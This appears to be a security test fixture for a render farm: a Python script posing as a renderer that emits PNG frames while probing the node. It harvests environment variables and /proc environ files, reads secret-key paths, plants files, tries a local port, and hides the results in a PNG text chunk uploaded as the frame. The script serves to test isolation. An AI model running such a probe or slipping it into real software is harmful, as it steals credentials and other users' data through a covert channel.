"""A hostile "renderer": it renders (a tiny PNG per frame) and probes the machine.

    probe_renderer.py OUTPUT_PATTERN FRAMES READS WRITES PORT

Standard library only. What it tries, as any code a member gets run on a render node
would, goes into a report inside each frame (a ``probe`` text chunk of the PNG, which is
uploaded as the frame): its own environment and every ``/proc/*/environ`` it can read;
reading each path in READS (``:``-separated: the worker's secret key, another project's
files); writing a file into each folder in WRITES; connecting to ``127.0.0.1:PORT``
(0: no attempt).
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import zlib
from pathlib import Path


def tiny_png(report: str) -> bytes:
    """A real 1x1 PNG carrying ``report`` in a tEXt chunk (only frames leave the node)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"tEXt", b"probe\x00" + report.encode("latin-1", "replace"))
        + chunk(b"IDAT", zlib.compress(b"\x00\x10\x20\x30"))
        + chunk(b"IEND", b"")
    )


def try_read(path: str) -> str:
    try:
        return "READ:" + Path(path).read_bytes()[:4096].decode(errors="replace")
    except OSError as exc:
        return f"refused: {exc.strerror}"


def try_write(folder: str) -> str:
    target = Path(folder) / "planted-by-probe.txt"
    try:
        target.write_text("planted")
        return "WROTE"
    except OSError as exc:
        return f"refused: {exc.strerror}"


def try_connect(port: int) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3):
            return "CONNECTED"
    except OSError as exc:
        return f"refused: {exc.strerror or exc}"


def environs() -> dict[str, str]:
    found = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found[entry.name] = (entry / "environ").read_bytes().decode(errors="replace")
            except OSError:
                continue
    return found


def main() -> int:
    pattern, frames, reads, writes, port = sys.argv[1:6]
    report = {
        "env": dict(os.environ),
        "proc_environ": environs(),
        "parent_environ": try_read(f"/proc/{os.getppid()}/environ"),
        "reads": {p: try_read(p) for p in reads.split(":") if p},
        "writes": {w: try_write(w) for w in writes.split(":") if w},
        "connect": try_connect(int(port)) if port != "0" else "",
        "uid": os.getuid(),
    }
    for number in (int(f) for f in frames.split(",")):
        print(f"Fra:{number} Mem:1.00M | Time:00:00.01 | Sample 1/1", flush=True)
        stem = pattern.replace("####", f"{number:04d}")
        Path(stem + ".png").write_bytes(tiny_png(json.dumps(report)))
        print(f"Saved: '{stem}.png'", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
